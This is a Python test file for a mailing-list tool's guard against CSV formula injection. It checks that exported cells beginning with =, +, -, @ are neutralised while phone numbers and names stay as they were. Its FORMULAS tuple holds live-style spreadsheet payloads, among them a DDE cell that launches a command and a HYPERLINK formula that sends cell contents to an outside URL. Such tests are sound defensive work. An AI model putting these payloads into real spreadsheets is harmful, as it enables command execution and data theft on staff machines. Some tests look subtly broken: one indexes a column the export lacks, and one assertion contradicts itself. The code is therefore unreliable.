"""What somebody has typed into a form is no formula when staff open our files in Excel or LibreOffice (CWE-1236)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.terminal import mailer

from mailer.model import Recipient
from mailer.press import Suppressions, forget, read_list, write_list
from mailer.press.formulas import as_text, without_mark
from mailer.workspace import Workspace

FORMULAS = (
    '=HYPERLINK("http://example.net/?x="&A1,"Ana")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "+1*2",
    "＝1+1",
)
NO_FORMULAS = (
    "+52 55 1234 5678", "+525512345678", "+1 (202) 555-0123", "+44 20.7946.0142", "-", "--", "-12", "+3,5",
    "O'Neil", "'t Hooft", "'quoted'", "a=b", "(+52) 55", "2+3", "",
)  # fmt: skip
SIGNS = tuple("=+-@\t\r")
"""OWASP, “CSV Injection”."""


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def an_export(workspace: Workspace, rows: tuple[str, ...]) -> Path:
    path = workspace.root / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file)
        out.writerow(["email", "name", "phone", "notes"])
        out.writerows([f"p{n}@example.org", f"Person {n}", text, text] for n, text in enumerate(rows))
    return path


def added(workspace: Workspace, rows: tuple[str, ...]) -> Path:
    export = an_export(workspace, rows)
    assert mailer("lists", "add", str(export), "--as", "clean", cwd=workspace.root).code == 0
    return workspace.lists / "clean.csv"


def test_a_list_that_is_added_has_no_formulas(workspace: Workspace) -> None:
    cells = [cell for row in cells_of(added(workspace, FORMULAS))[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(SIGNS)] == []
    assert "'-2+3" in cells


def test_and_is_read_as_it_was(workspace: Workspace) -> None:
    rows = FORMULAS + NO_FORMULAS
    people = list(read_list(added(workspace, rows)))
    assert [person.fields["notes"] for person in people] == list(rows)
    again = workspace.lists / "again.csv"
    write_list(again, people, people[0].fields)
    assert again.read_bytes() == (workspace.lists / "clean.csv").read_bytes(), (
        "and no mark is added to a mark"
    )


def test_phone_numbers_and_dashes_stay_as_they_are(workspace: Workspace) -> None:
    phones = [row[5] for row in cells_of(added(workspace, NO_FORMULAS))[1:]]
    assert phones == list(NO_FORMULAS)


def test_an_address_may_begin_like_a_formula(workspace: Workspace) -> None:
    path = workspace.lists / "odd.csv"
    addresses = ["=1+1@example.org", "+ana@example.org", "-bo@example.org"]
    write_list(path, [Recipient(address) for address in addresses], ())
    assert [row[0] for row in cells_of(path)[1:]] == [f"'{address}" for address in addresses]
    assert [person.address for person in read_list(path)] == addresses


@pytest.mark.parametrize("address", ["=1+1@example.org", "-bo@example.org"])
def test_suppressions_have_no_formulas_and_hold(address: str, workspace: Workspace) -> None:
    suppressions = Suppressions(workspace.suppressed)
    suppressions.add(address, '=HYPERLINK("http://example.net")', "@SUM(1)")
    [row] = [row for row in cells_of(workspace.suppressed) if address in row[0]]
    assert not any(cell.startswith(SIGNS) for cell in row)
    entry = Suppressions(workspace.suppressed).get(address)
    assert entry
    assert (entry.address, entry.reason, entry.source) == (
        address,
        '=HYPERLINK("http://example.net")',
        "@SUM(1)",
    )
    assert not suppressions.add(address.upper(), "again"), "nobody is added twice"
    forget(workspace, address)
    assert address in Suppressions(workspace.suppressed)
    assert address not in workspace.suppressed.read_text("utf-8")


def test_of_another_programs_marks_too_the_text_is_taken(workspace: Workspace) -> None:
    path = workspace.lists / "marked.csv"
    path.write_text("email,name,phone\nana@example.org,'=1+1,'+52 55 1234 5678\n", "utf-8")
    [ana] = read_list(path)
    assert (ana.name, ana.fields["phone"]) == ("=1+1", "+52 55 1234 5678")


@given(st.text() | st.text("=+-@'\t\r\n 1(.", max_size=6))
@example("'=1")
@example("''=1")
@example(" \n=1")
def test_any_cell(cell: str) -> None:
    marked = as_text(cell)
    assert without_mark(marked) == without_mark(cell), "of which one that was there is no part"
    assert as_text(marked) == marked
    if marked.lstrip().startswith(SIGNS) or marked.startswith(("\t", "\r")):
        assert not any(sign.isalpha() or sign in "=@|!\t\r" for sign in marked), "a number calculates nothing"
